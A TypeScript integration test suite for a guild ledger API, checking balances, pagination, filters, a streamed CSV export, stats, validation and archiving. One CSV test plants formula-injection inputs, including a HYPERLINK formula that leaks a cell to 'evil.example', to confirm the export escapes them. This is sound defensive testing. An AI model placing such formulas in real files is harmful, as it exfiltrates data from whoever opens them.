import type { AddressInfo } from 'node:net';
import type { Server } from 'node:http';
import pg from 'pg';
import { createLedger, entriesCsv, systemAccount, userAccount, type Ledger, type LedgerEntry } from '../../activities/ledger';
import { createApp } from '../../api/app';
import { createApiToken } from '../../lib/api-tokens';
import { createLogger } from '../../lib/logger';
import { waitFor } from '../../lib/wait';
import { createTestDatabase, type TestDatabase } from '../helpers/database';
import { createGuild, snowflake, SYSTEM } from '../helpers/ledger';

/**
 * The ledger API against movements made through createLedger: every answer is compared with what those
 * movements did (or with the tables they wrote), not only its status.
 */

let db: TestDatabase;
let ledger: Ledger;
let sql: pg.Pool;
let server: Server;
let base: string;
let guild: string;
let other: string;
const tokens = { mod: '', admin: '', user: '' };

// eslint-disable-next-line @typescript-eslint/no-explicit-any -- response bodies are checked field by field
type Body = Record<string, any>;

async function call(method: string, path: string, opts: { token?: string; body?: unknown } = {}): Promise<{ status: number; body: Body; headers: Headers; text: string }> {
  const res = await fetch(base + path, {
    method,
    headers: {
      authorization: `Bearer ${opts.token ?? tokens.mod}`,
      ...(opts.body !== undefined ? { 'content-type': 'application/json' } : {}),
    },
    body: opts.body !== undefined ? JSON.stringify(opts.body) : undefined,
  });
  const text = await res.text();
  const json = res.headers.get('content-type')?.includes('json') ? (JSON.parse(text) as Body) : {};
  return { status: res.status, body: json, headers: res.headers, text };
}
const api = (path: string) => `/api/guilds/${guild}/ledger${path}`;

/** A free-text cell as the CSV export writes it: a leading formula character escaped with `'` (OWASP). */
const spreadsheetText = (value: string) => (/^[=+\-@\t\r]/.test(value) ? `'${value}` : value);

/** RFC 4180 parser (quoted fields with "" escapes, CRLF or LF, newlines inside quotes). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\n' || c === '\r') {
      if (c === '\r' && text[i + 1] === '\n') i++;
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
    } else field += c;
  }
  if (field !== '' || row.length) {
    row.push(field);
    rows.push(row);
  }
  return rows;
}

const alice = snowflake();
const bob = snowflake();
const carol = snowflake();
const dave = snowflake();
const k = (name: string) => `${name}:${guild}`;
/** What the movements below did, for the expectations. */
const made: LedgerEntry[] = [];

async function movements(): Promise<void> {
  const push = async (p: Promise<{ entry: LedgerEntry }>) => made.push((await p).entry);
  const daily = (user: string, amount: bigint, key: string) =>
    ledger.transfer({ guildId: guild, key, type: 'daily', actor: SYSTEM, asset: 'currency', from: systemAccount('issuance'), to: userAccount(user), amount });
  await push(daily(alice, 1000n, k('daily/alice:1')));
  await push(daily(bob, 300n, k('daily/bob:1')));
  await push(daily(carol, 50n, k('daily/carol:1')));
  const give = (from: string, to: string, amount: bigint, key: string, reason: string | null) =>
    ledger.transfer({ guildId: guild, key, type: 'give', actor: { type: 'user', id: from }, reason, refs: { interactionId: key }, asset: 'currency', from: userAccount(from), to: userAccount(to), amount });
  await push(give(alice, bob, 120n, k('give/1'), 'for "lunch", thanks'));
  await push(give(bob, carol, 20n, k('give/2'), 'line one\nline two, with a comma'));
  await push(give(alice, dave, 5n, k('give/3'), null));
  await push(give(carol, alice, 1n, k('give/4'), '=1+1 "quoted" \r\n end'));
  await push(
    ledger.record({
      guildId: guild,
      key: k('gems/1'),
      type: 'reward',
      actor: SYSTEM,
      reason: 'event prize',
      postings: [
        { account: systemAccount('issuance'), asset: 'gems', amount: -7n },
        { account: userAccount(bob), asset: 'gems', amount: 7n },
      ],
    }),
  );
  const hold = (from: string, amount: bigint, key: string) =>
    ledger.hold({ guildId: guild, key, type: 'purchase', actor: SYSTEM, asset: 'currency', from: userAccount(from), to: systemAccount('sink'), amount });
  await hold(alice, 30n, k('hold/pending'));
  await hold(bob, 25n, k('hold/posted'));
  await hold(dave, 5n, k('hold/voided'));
  await ledger.postHold({ key: k('hold/posted'), amount: 20n });
  await ledger.voidHold({ key: k('hold/voided') });
  for (const key of ['hold/pending', 'hold/posted', 'hold/voided']) made.push((await ledger.entry(k(key)))!);
  // Some history is older: five days ago.
  await sql.query(
    `UPDATE ledger_entries SET created_at = created_at - interval '5 days', posted_at = posted_at - interval '5 days', voided_at = voided_at - interval '5 days'
      WHERE idempotency_key = ANY($1)`,
    [[k('daily/alice:1'), k('daily/bob:1'), k('give/1'), k('hold/voided')]],
  );
  for (const [i, e] of made.entries()) made[i] = (await ledger.entry(e.key))!;
}

beforeAll(async () => {
  db = await createTestDatabase();
  ledger = createLedger(db.prisma);
  sql = new pg.Pool({ connectionString: db.url, max: 2 });
  guild = await createGuild(db.prisma);
  other = await createGuild(db.prisma);
  for (const level of ['user', 'mod', 'admin'] as const) {
    tokens[level] = (await createApiToken(db.prisma, { guildId: guild, name: level, level, createdBy: 'cli', creatorLevel: 'owner' })).token;
  }
  await ledger.transfer({ guildId: other, key: `other:${other}`, type: 'daily', actor: SYSTEM, asset: 'currency', from: systemAccount('issuance'), to: userAccount(alice), amount: 9n });
  await movements();
  const app = createApp({ prisma: db.prisma, log: createLogger({ level: 'silent' }), readiness: [] });
  server = await new Promise<Server>((resolve) => {
    const s = app.listen(0, '127.0.0.1', () => resolve(s));
  });
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}, 120_000);

afterAll(async () => {
  if (server) await new Promise((r) => server.close(r));
  await sql?.end();
  await db?.drop();
});

/** Every entry id of the guild matching `where` (SQL over e), newest first — the expectation for listings. */
async function expectedIds(where = 'true', values: unknown[] = []): Promise<string[]> {
  const { rows } = await sql.query<{ id: string }>(`SELECT e.id::text AS id FROM ledger_entries e WHERE e.guild_id = $1 AND (${where}) ORDER BY e.id DESC`, [guild, ...values]);
  return rows.map((r) => r.id);
}

/** Follows nextCursor through every page of /entries with `query`, checking no entry repeats. */
async function allPages(query: string, limit: number): Promise<Body[]> {
  const seen: Body[] = [];
  let cursor: string | null = null;
  for (let pages = 0; pages < 1000; pages++) {
    const res = await call('GET', api(`/entries?limit=${limit}${query ? `&${query}` : ''}${cursor ? `&cursor=${cursor}` : ''}`));
    expect(res.status).toBe(200);
    expect(res.body.entries.length).toBeLessThanOrEqual(limit);
    seen.push(...res.body.entries);
    cursor = res.body.nextCursor;
    if (cursor === null) break;
    expect(res.body.entries).toHaveLength(limit);
  }
  expect(new Set(seen.map((e) => e.id)).size).toBe(seen.length);
  return seen;
}

describe('reads', () => {
  it('lists the assets', async () => {
    const res = await call('GET', api('/assets'));
    expect(res.status).toBe(200);
    expect(res.body.assets.map((a: Body) => [a.code, a.name, a.emoji, a.guildId])).toEqual([
      ['currency', 'Coins', '🪙', guild],
      ['gems', 'Gems', '💎', guild],
    ]);
  });

  it('pages the top holders of an asset, amounts as strings', async () => {
    // alice 1000-120-5+1-30 held: balance 876, held 30; bob 300+120-20-20 = 380; carol 50+20-1 = 69; dave 5.
    const first = await call('GET', api('/holders?asset=currency&limit=2'));
    expect(first.body).toEqual({
      asset: 'currency',
      total: 4,
      holders: [
        { userId: alice, accountId: expect.any(String), balance: '876', held: '30', available: '846' },
        { userId: bob, accountId: expect.any(String), balance: '380', held: '0', available: '380' },
      ],
      nextCursor: expect.any(String),
      nextOffset: 2,
    });
    // The deprecated offset and the cursor reach the same page.
    const second = await call('GET', api('/holders?asset=currency&limit=2&offset=2'));
    expect(second.body.holders.map((h: Body) => [h.userId, h.balance])).toEqual([
      [carol, '69'],
      [dave, '5'],
    ]);
    expect(second.body.nextOffset).toBeNull();
    expect(second.body.nextCursor).toBeNull();
    const byCursor = await call('GET', api(`/holders?asset=currency&limit=2&cursor=${first.body.nextCursor}`));
    expect(byCursor.body).toEqual(second.body);
    expect((await call('GET', api('/holders?asset=currency&cursor=nonsense'))).status).toBe(400);
    expect((await call('GET', api('/holders?asset=gems'))).body.holders.map((h: Body) => [h.userId, h.balance])).toEqual([[bob, '7']]);
    for (const [u, b] of [[alice, '876'], [bob, '380'], [carol, '69'], [dave, '5']] as const) {
      expect(String((await ledger.balance(guild, userAccount(u), 'currency')).balance)).toBe(b);
    }
  });

  it("answers a member's and a system account's balances in every asset", async () => {
    const bobs = await call('GET', api(`/members/${bob}/balances`));
    expect(bobs.body).toEqual({
      account: { ownerType: 'user', ownerId: bob },
      balances: [
        { asset: 'currency', balance: '380', held: '0', available: '380' },
        { asset: 'gems', balance: '7', held: '0', available: '7' },
      ],
    });
    const nobody = await call('GET', api(`/members/${snowflake()}/balances`));
    expect(nobody.body.balances.map((b: Body) => b.balance)).toEqual(['0', '0']);
    const issuance = await call('GET', api('/system/issuance/balances'));
    expect(issuance.body.balances).toEqual([
      { asset: 'currency', balance: '-1350', held: '0', available: '-1350' },
      { asset: 'gems', balance: '-7', held: '0', available: '-7' },
    ]);
    const sink = await call('GET', api('/system/sink/balances'));
    expect(sink.body.balances[0]).toEqual({ asset: 'currency', balance: '20', held: '0', available: '20' });
    expect((await call('GET', api('/system/bank/balances'))).status).toBe(400);
    expect((await call('GET', api('/members/bob/balances'))).status).toBe(400);
  });

  it('pages through every account of the guild exactly once', async () => {
    const seen: Body[] = [];
    let cursor: string | null = null;
    do {
      const res: { body: Body } = await call('GET', api(`/accounts?limit=2${cursor ? `&cursor=${cursor}` : ''}`));
      seen.push(...res.body.accounts);
      cursor = res.body.nextCursor;
    } while (cursor);
    const { rows } = await sql.query<{ id: string; owner_type: string; owner_id: string; code: string; balance: string; held: string }>(
      `SELECT a.id::text AS id, a.owner_type, a.owner_id, s.code, a.balance::text AS balance, a.held::text AS held
         FROM ledger_accounts a JOIN ledger_assets s ON s.id = a.asset_id WHERE a.guild_id = $1 ORDER BY a.id`,
      [guild],
    );
    expect(seen.map((a) => [a.accountId, a.account.ownerType, a.account.ownerId, a.asset, a.balance, a.held])).toEqual(
      rows.map((r) => [r.id, r.owner_type, r.owner_id, r.code, r.balance, r.held]),
    );
    const system = await call('GET', api('/accounts?ownerType=system&asset=currency'));
    expect(system.body.accounts.map((a: Body) => a.account.ownerId).sort()).toEqual(['issuance', 'sink']);
  });
});

describe('entries', () => {
  it('cursor pagination covers every entry exactly once, newest first, with the movements’ values', async () => {
    for (const limit of [1, 3, 100]) {
      const all = await allPages('', limit);
      expect(all.map((e) => e.id)).toEqual(await expectedIds());
    }
    const all = await allPages('', 4);
    expect(all.map((e) => e.key).sort()).toEqual(made.map((e) => e.key).sort());
    const give1 = all.find((e) => e.key === k('give/1'))!;
    expect(give1).toMatchObject({
      type: 'give',
      status: 'posted',
      reason: 'for "lunch", thanks',
      refs: { interactionId: k('give/1') },
      actor: { type: 'user', id: alice },
      postings: [
        { account: { ownerType: 'user', ownerId: alice }, asset: 'currency', amount: '-120', balanceAfter: '880' },
        { account: { ownerType: 'user', ownerId: bob }, asset: 'currency', amount: '120', balanceAfter: '420' },
      ],
      hold: null,
    });
    const posted = all.find((e) => e.key === k('hold/posted'))!;
    expect(posted.hold).toEqual({ from: { ownerType: 'user', ownerId: bob }, to: { ownerType: 'system', ownerId: 'sink' }, asset: 'currency', amount: '25', postedAmount: '20' });
  });

  it('filters by account, asset, type, status and time, and pages the filtered list', async () => {
    const accountsOf = `(EXISTS (SELECT 1 FROM ledger_postings p JOIN ledger_accounts a ON a.id = p.account_id WHERE p.entry_id = e.id AND a.owner_id = $2)
                         OR EXISTS (SELECT 1 FROM ledger_holds h JOIN ledger_accounts a ON a.id IN (h.debit_account_id, h.credit_account_id) WHERE h.entry_id = e.id AND a.owner_id = $2))`;
    const cases: [string, string, unknown[]][] = [
      [`account=user:${bob}`, accountsOf, [bob]],
      [`account=user:${alice}&type=give`, `${accountsOf} AND e.type = 'give'`, [alice]],
      [`account=user:${dave}&status=voided,posted`, `${accountsOf} AND e.status IN ('voided', 'posted')`, [dave]],
      ['account=system:sink', accountsOf, ['sink']],
      ['asset=gems', `e.idempotency_key = $2`, [k('gems/1')]],
      ['type=give,daily', `e.type IN ('give', 'daily')`, []],
      ['status=pending', `e.status = 'pending'`, []],
      [`since=${new Date(Date.now() - 86_400_000).toISOString()}`, `e.created_at >= now() - interval '1 day'`, []],
      [`until=${new Date(Date.now() - 86_400_000).toISOString()}&type=give`, `e.created_at < now() - interval '1 day' AND e.type = 'give'`, []],
      [`account=user:${alice}&asset=gems`, 'false', []],
    ];
    for (const [query, where, values] of cases) {
      const expected = await expectedIds(where, values);
      for (const limit of [1, 2, 25]) {
        expect([query, limit, (await allPages(query, limit)).map((e) => e.id)]).toEqual([query, limit, expected]);
      }
    }
    // Sanity of the expectations themselves.
    expect(await expectedIds(accountsOf, [dave])).toHaveLength(2);
    expect(await expectedIds(`e.created_at < now() - interval '1 day'`)).toHaveLength(4);
  });

  it('answers one entry by key (any characters), and 404 for another guild’s or an unknown key', async () => {
    const res = await call('GET', api(`/entries/${encodeURIComponent(k('give/2'))}`));
    expect(res.status).toBe(200);
    expect(res.body.archived).toBeNull();
    expect(res.body.entry).toMatchObject({ key: k('give/2'), reason: 'line one\nline two, with a comma', postings: [{ amount: '-20' }, { amount: '20' }] });
    expect((await call('GET', api(`/entries/${encodeURIComponent(`other:${other}`)}`))).status).toBe(404);
    const missing = await call('GET', api('/entries/nope'));
    expect(missing.status).toBe(404);
    expect(missing.body.error.code).toBe('not_found');
  });

  it('refuses bad filters with a 400 naming the field', async () => {
    for (const [query, field] of [
      ['account=bank:1', 'account'],
      ['account=user:abc', 'account'],
      ['type=bogus', 'type'],
      ['status=done', 'status'],
      ['limit=0', 'limit'],
      ['limit=101', 'limit'],
      ['cursor=abc', 'cursor'],
      ['since=yesterday', 'since'],
      ['asset=Gold!', 'asset'],
      ['colour=red', 'colour'],
    ]) {
      const res = await call('GET', api(`/entries?${query}`));
      expect([query, res.status, res.body.error.code]).toEqual([query, 400, 'invalid_input']);
      expect(res.body.error.message).toContain(field!);
    }
    expect((await call('GET', api('/entries.csv?type=bogus'))).status).toBe(400);
    expect((await call('GET', api('/stats?top=0'))).status).toBe(400);
    expect((await call('GET', api('/stats?since=2026-01-10&until=2026-01-01'))).status).toBe(400);
  });
});

describe('CSV export', () => {
  it('parses back to the same entries (quotes, commas and newlines in reasons), with a download header', async () => {
    const res = await call('GET', api('/entries.csv'));
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(new RegExp(`^attachment; filename="ledger-${guild}-\\d{4}-\\d{2}-\\d{2}\\.csv"$`));
    const [header, ...rows] = parseCsv(res.text);
    expect(header).toEqual(['id', 'key', 'type', 'status', 'created_at', 'posted_at', 'voided_at', 'actor_type', 'actor_id', 'reason', 'refs', 'postings', 'hold']);
    const json = await allPages('', 100);
    expect(rows).toHaveLength(json.length);
    rows.forEach((r, i) => {
      const e = json[i]!;
      const row = Object.fromEntries(header!.map((h, j) => [h, r[j]]));
      expect(row).toEqual({
        id: e.id,
        key: spreadsheetText(e.key),
        type: e.type,
        status: e.status,
        created_at: e.createdAt,
        posted_at: e.postedAt ?? '',
        voided_at: e.voidedAt ?? '',
        actor_type: e.actor.type,
        actor_id: spreadsheetText(e.actor.id),
        reason: spreadsheetText(e.reason ?? ''),
        refs: JSON.stringify(e.refs),
        postings: JSON.stringify(
          e.postings.map((p: Body) => ({ account: `${p.account.ownerType}:${p.account.ownerId}`, asset: p.asset, amount: p.amount, balanceAfter: p.balanceAfter })),
        ),
        hold: e.hold ? JSON.stringify({ ...e.hold, from: `${e.hold.from.ownerType}:${e.hold.from.ownerId}`, to: `${e.hold.to.ownerType}:${e.hold.to.ownerId}` }) : '',
      });
    });
    expect(rows.map((r) => r[9])).toContain(`'=1+1 "quoted" \r\n end`);
    expect(rows.map((r) => r[9])).toContain('line one\nline two, with a comma');

    const gives = parseCsv((await call('GET', api(`/entries.csv?type=give&account=user:${carol}`))).text).slice(1);
    expect(gives.map((r) => r[1])).toEqual([k('give/4'), k('give/2')]);
  });

  it('writes free text that starts like a formula as text, and keeps the JSON and the amounts exact', async () => {
    const g = await createGuild(db.prisma);
    const token = (await createApiToken(db.prisma, { guildId: g, name: 'm', level: 'mod', createdBy: 'cli', creatorLevel: 'owner' })).token;
    await ledger.transfer({ guildId: g, key: `fund:${g}`, type: 'daily', actor: SYSTEM, asset: 'currency', from: systemAccount('issuance'), to: userAccount(alice), amount: 100n });
    const notes = ['=HYPERLINK("https://evil.example/?leak="&A2,"Claim your prize")', '+SUM(1,2)', '-2+3', '@cmd', '\t=1+1', '\r=1+1', 'thanks - = + @ inside is fine'];
    for (const [i, note] of notes.entries()) {
      await ledger.transfer({ guildId: g, key: `give:${g}:${i}`, type: 'give', actor: { type: 'user', id: alice }, reason: note, asset: 'currency', from: userAccount(alice), to: userAccount(bob), amount: 5n });
    }
    // A key a client chose can start like a formula too.
    await ledger.transfer({ guildId: g, key: `-1+1:${g}`, type: 'give', actor: { type: 'user', id: alice }, asset: 'currency', from: userAccount(alice), to: userAccount(bob), amount: 1n });
    const get = (path: string) => call('GET', `/api/guilds/${g}/ledger${path}`, { token });

    const [header, ...rows] = parseCsv((await get('/entries.csv?type=give')).text);
    const col = (name: string) => header!.indexOf(name);
    const byKey = new Map(rows.map((r) => [r[col('key')]!, r]));
    for (const [i, note] of notes.entries()) expect(byKey.get(`give:${g}:${i}`)?.[col('reason')]).toBe(spreadsheetText(note));
    expect(byKey.get(`give:${g}:0`)?.[col('reason')]).toBe(`'=HYPERLINK("https://evil.example/?leak="&A2,"Claim your prize")`);
    expect(byKey.get(`give:${g}:6`)?.[col('reason')]).toBe('thanks - = + @ inside is fine');
    expect(byKey.has(`'-1+1:${g}`)).toBe(true);
    // Amounts (negative for the giver) are the JSON the API gives, untouched.
    const postings = JSON.parse(byKey.get(`give:${g}:0`)![col('postings')]!) as { account: string; amount: string }[];
    expect(postings.map((p) => [p.account, p.amount])).toEqual([
      [`user:${alice}`, '-5'],
      [`user:${bob}`, '5'],
    ]);
    expect(byKey.get(`give:${g}:0`)![col('id')]).toMatch(/^\d+$/);

    const json = (await get('/entries?type=give&limit=100')).body.entries as Body[];
    expect(new Map(json.map((e) => [e.key, e.reason]))).toEqual(
      new Map<string, string | null>([...notes.map((n, i): [string, string] => [`give:${g}:${i}`, n]), [`-1+1:${g}`, null]]),
    );
  });

  describe('20 000 entries', () => {
    let big: string;
    const N = 20_000;
    beforeAll(async () => {
      big = await createGuild(db.prisma);
      await ledger.ensureGuildAssets(big);
      // Through the ledger's own function, in one statement (20 000 round trips would be slow here).
      await sql.query(
        `SELECT ledger_record($1, 'bulk:' || $1 || ':' || i, 'daily', false, 'system', 'test',
                              CASE WHEN i % 3 = 0 THEN 'bulk "' || i || '", line' || E'\\n' || 'two' END, '{}'::jsonb,
                              jsonb_build_array(jsonb_build_object('ownerType', 'system', 'ownerId', 'issuance', 'asset', 'currency', 'amount', -i),
                                                jsonb_build_object('ownerType', 'user', 'ownerId', (400000000000000000 + i % 50)::text, 'asset', 'currency', 'amount', i)))
           FROM generate_series(1, ${N}) AS i`,
        [big],
      );
    }, 120_000);

    it('streams all of them over HTTP: chunked, every row once, in order', async () => {
      const mod = (await createApiToken(db.prisma, { guildId: big, name: 'm', level: 'mod', createdBy: 'cli', creatorLevel: 'owner' })).token;
      const res = await fetch(`${base}/api/guilds/${big}/ledger/entries.csv`, { headers: { authorization: `Bearer ${mod}` } });
      expect(res.status).toBe(200);
      expect(res.headers.get('content-length')).toBeNull();
      expect(res.headers.get('transfer-encoding')).toBe('chunked');
      const reader = res.body!.getReader();
      const decoder = new TextDecoder();
      let text = '';
      let chunks = 0;
      for (;;) {
        const { done, value } = await reader.read();
        if (done) break;
        chunks += 1;
        text += decoder.decode(value, { stream: true });
      }
      expect(chunks).toBeGreaterThan(10);
      const rows = parseCsv(text).slice(1);
      expect(rows).toHaveLength(N);
      const ids = rows.map((r) => BigInt(r[0]!));
      expect(ids.every((id, i) => i === 0 || id < ids[i - 1]!)).toBe(true);
      expect(rows[0]![1]).toBe(`bulk:${big}:${N}`);
      expect(rows.find((r) => r[1] === `bulk:${big}:3`)![9]).toBe('bulk "3", line\ntwo');
      expect(rows.at(-1)![11]).toBe(JSON.stringify([
        { account: 'system:issuance', asset: 'currency', amount: '-1', balanceAfter: '-1' },
        { account: 'user:400000000000000001', asset: 'currency', amount: '1', balanceAfter: '1' },
      ]));
    });

    it('reads a batch at a time, only as fast as the consumer takes them (bounded memory)', async () => {
      const batches: number[] = [];
      const stream = entriesCsv(db.prisma, { guildId: big }, { onBatch: (n) => batches.push(n) });
      const iterator = stream[Symbol.asyncIterator]();
      const first = (await iterator.next()).value as Buffer;
      expect(first.toString()).toMatch(/^id,key,type,/);
      // The stream stops asking for rows once its buffer is full: from then on nothing more can be read ahead.
      await waitFor(() => stream.readableLength >= stream.readableHighWaterMark, { timeoutMs: 60_000, what: 'the CSV stream to fill its buffer' });
      expect(batches.length).toBeGreaterThanOrEqual(1);
      expect(batches.length).toBeLessThanOrEqual(4); // of 40: what fits the stream's 64 KiB buffer, no more
      expect(stream.readableLength).toBeLessThan(512 * 1024);
      let lines = first.toString().split('\r\n').length - 1;
      for (;;) {
        const { done, value } = await iterator.next();
        if (done) break;
        lines += (value as Buffer).toString().match(/\r\n/g)?.length ?? 0;
      }
      expect(batches.reduce((a, b) => a + b, 0)).toBe(N);
      expect(batches.every((n) => n <= 500)).toBe(true);
      expect(lines).toBe(N + 1); // CRLF ends each row; the reasons' newlines are bare LF
    });
  });
});

describe('stats', () => {
  it('sums volume per type and day as the movements did, and names the top holders', async () => {
    const res = await call('GET', api('/stats'));
    expect(res.status).toBe(200);
    const day = (d: Date) => d.toISOString().slice(0, 10);
    // Expected from the movements: credits of posted entries, by the day they were posted.
    const expected = new Map<string, { entries: number; volume: bigint }>();
    for (const e of made) {
      if (e.status !== 'posted') continue;
      for (const p of e.postings.filter((p) => p.amount > 0n)) {
        const key = `${day(e.postedAt!)}|${e.type}|${p.asset}`;
        const v = expected.get(key) ?? { entries: 0, volume: 0n };
        v.volume += p.amount;
        expected.set(key, v);
      }
      for (const asset of new Set(e.postings.map((p) => p.asset))) expected.get(`${day(e.postedAt!)}|${e.type}|${asset}`)!.entries += 1;
    }
    const got = new Map<string, { entries: number; volume: bigint }>(
      res.body.volume.map((r: Body) => [`${r.day}|${r.type}|${r.asset}`, { entries: r.entries, volume: BigInt(r.volume) }]),
    );
    expect(got).toEqual(expected);
    expect(res.body.totals.find((t: Body) => t.type === 'give' && t.asset === 'currency')).toEqual({ type: 'give', asset: 'currency', entries: 4, volume: '146' });
    expect(res.body.totals.find((t: Body) => t.type === 'daily')).toEqual({ type: 'daily', asset: 'currency', entries: 3, volume: '1350' });
    expect(res.body.topHolders).toEqual([
      {
        asset: 'currency',
        holders: [
          { userId: alice, balance: '876', held: '30', available: '846' },
          { userId: bob, balance: '380', held: '0', available: '380' },
          { userId: carol, balance: '69', held: '0', available: '69' },
          { userId: dave, balance: '5', held: '0', available: '5' },
        ],
      },
      { asset: 'gems', holders: [{ userId: bob, balance: '7', held: '0', available: '7' }] },
    ]);
    // A range that holds only today's entries, one asset, top 1.
    const today = await call('GET', api(`/stats?since=${day(new Date())}&asset=currency&top=1`));
    expect(today.body.volume.every((r: Body) => r.day === day(new Date()) && r.asset === 'currency')).toBe(true);
    expect(today.body.totals.find((t: Body) => t.type === 'give')).toEqual({ type: 'give', asset: 'currency', entries: 3, volume: '26' });
    expect(today.body.topHolders).toEqual([{ asset: 'currency', holders: [{ userId: alice, balance: '876', held: '30', available: '846' }] }]);
  });
});

describe('validate and archive (admin)', () => {
  it('validate: clean report, then names a balance tampered with by raw SQL', async () => {
    expect((await call('POST', api('/validate'))).status).toBe(403); // mod
    const clean = await call('POST', api('/validate'), { token: tokens.admin });
    expect(clean.status).toBe(200);
    expect(clean.body).toMatchObject({ ok: true, guildId: guild, negativeUserAccounts: [], balanceMismatches: [], duplicateKeys: [], unbalancedEntries: [], inconsistentEntries: [], domainMismatches: [] });
    expect(clean.body.assets.map((a: Body) => [a.asset, a.sumOfBalances, a.sumOfPostings, a.ok])).toEqual([
      ['currency', '0', '0', true],
      ['gems', '0', '0', true],
    ]);

    await sql.query(`UPDATE ledger_accounts SET balance = balance + 7 WHERE guild_id = $1 AND owner_type = 'system' AND owner_id = 'sink'`, [guild]);
    try {
      const bad = await call('POST', api('/validate'), { token: tokens.admin });
      expect(bad.body.ok).toBe(false);
      expect(bad.body.balanceMismatches).toEqual([
        expect.objectContaining({ account: { ownerType: 'system', ownerId: 'sink' }, asset: 'currency', balance: '27', postingsSum: '20', pendingHolds: '0' }),
      ]);
      expect(bad.body.assets[0]).toMatchObject({ asset: 'currency', sumOfBalances: '7', sumOfPostings: '0', ok: false });
    } finally {
      await sql.query(`UPDATE ledger_accounts SET balance = balance - 7 WHERE guild_id = $1 AND owner_type = 'system' AND owner_id = 'sink'`, [guild]);
    }
    expect((await call('POST', api('/validate'), { token: tokens.admin })).body.ok).toBe(true);
  });

  it('archive: refuses bad input and non-admins; archives the old entries, balances, stats and validate unchanged; archived keys still answer', async () => {
    expect((await call('POST', api('/archive'), { token: tokens.admin, body: {} })).status).toBe(400);
    expect((await call('POST', api('/archive'), { token: tokens.admin, body: { olderThanDays: -1 } })).status).toBe(400);
    expect((await call('POST', api('/archive'), { token: tokens.admin, body: { olderThanDays: 3, extra: 1 } })).status).toBe(400);
    expect((await call('POST', api('/archive'), { body: { olderThanDays: 3 } })).status).toBe(403);

    const holders = (await call('GET', api('/holders?limit=100'))).body;
    const accounts = (await call('GET', api('/accounts?limit=500'))).body;
    const stats = (await call('GET', api('/stats'))).body;
    const res = await call('POST', api('/archive'), { token: tokens.admin, body: { olderThanDays: 3, batchSize: 2 } });
    expect(res.status).toBe(200);
    // daily/alice, daily/bob, give/1 and the voided hold are 5 days old.
    expect(res.body).toMatchObject({ guildId: guild, archived: 4, batches: 2, checkpointEntryId: expect.stringMatching(/^\d+$/) });

    expect((await call('GET', api('/holders?limit=100'))).body).toEqual(holders);
    expect((await call('GET', api('/accounts?limit=500'))).body).toEqual(accounts);
    expect((await call('GET', api('/stats'))).body).toEqual({ ...stats, since: expect.any(String), until: expect.any(String) });
    expect((await call('POST', api('/validate'), { token: tokens.admin })).body.ok).toBe(true);

    const listed = await allPages('', 100);
    expect(listed.map((e) => e.key)).not.toContain(k('give/1'));
    expect(listed.find((e) => e.type === 'checkpoint')).toMatchObject({ id: res.body.checkpointEntryId, key: res.body.checkpointKey, status: 'posted' });
    const archived = await call('GET', api(`/entries/${encodeURIComponent(k('give/1'))}`));
    expect(archived.status).toBe(200);
    expect(archived.body.archived).toEqual({ archivedAt: expect.any(String), checkpointEntryId: res.body.checkpointEntryId });
    expect(archived.body.entry).toMatchObject({ key: k('give/1'), reason: 'for "lunch", thanks', postings: [{ amount: '-120' }, { amount: '120' }] });

    const again = await ledger.transfer({ guildId: guild, key: k('give/1'), type: 'give', actor: SYSTEM, asset: 'currency', from: userAccount(alice), to: userAccount(bob), amount: 120n });
    expect(again.replayed).toBe(true);
    expect((await call('GET', api('/holders?limit=100'))).body).toEqual(holders);

    const audit = await db.prisma.auditEvent.findFirst({ where: { guildId: guild, action: 'ledger.archived' } });
    expect(audit).toMatchObject({ actorType: 'api_token', targetId: res.body.checkpointEntryId });
  });
});
